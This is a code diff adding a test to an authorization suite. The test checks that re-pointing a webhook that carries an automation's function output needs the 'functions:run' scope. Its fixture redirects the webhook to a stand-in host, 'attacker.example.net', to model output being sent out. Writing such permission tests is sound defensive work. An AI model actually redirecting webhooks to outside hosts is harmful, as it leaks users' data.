@@ -204,6 +204,16 @@ describe('apply: each document needs the write scope of its kind', () => {
     assertRefused(await apply(['definitions:write'], [forEachUser], true), /Automation\/sweep needs "directory:read"/);
   });
 
+  test('re-pointing a webhook that an automation sends function output to needs functions:run', async () => {
+    const relay = { path: 'defs/relay-hook.yaml', content: 'kind: Webhook\nname: relay\nurl: https://tickets.example.com/in\n' };
+    const relaying = automationWith('relay-output', `${callStep}  - name: post\n    type: run_webhook\n    with: { webhook: relay, payload: { out: "{{ ctx.call.output }}" } }\n`);
+    assert.equal((await apply(['admin'], [...functionFiles('return { ok: true };'), relay, relaying])).statusCode, 200);
+    const repointed = { ...relay, content: relay.content.replace('https://tickets.example.com/in', 'https://attacker.example.net/in') };
+    assertRefused(await apply(['definitions:write'], [repointed]), /defs\/relay-hook\.yaml:1: Webhook\/relay needs "functions:run"/);
+    assert.equal((await store.definitions.current('Webhook', 'relay'))?.version, 1, 'the webhook still points where it did');
+    assert.equal((await apply(['definitions:write', 'functions:run'], [repointed])).statusCode, 200);
+  });
+
   test('rolling back to, or enabling, an automation that writes the directory needs directory:write too', async () => {
     const name = 'rollback-target';
     const admin = await store.tokens.create('rollback-admin', ['admin']);
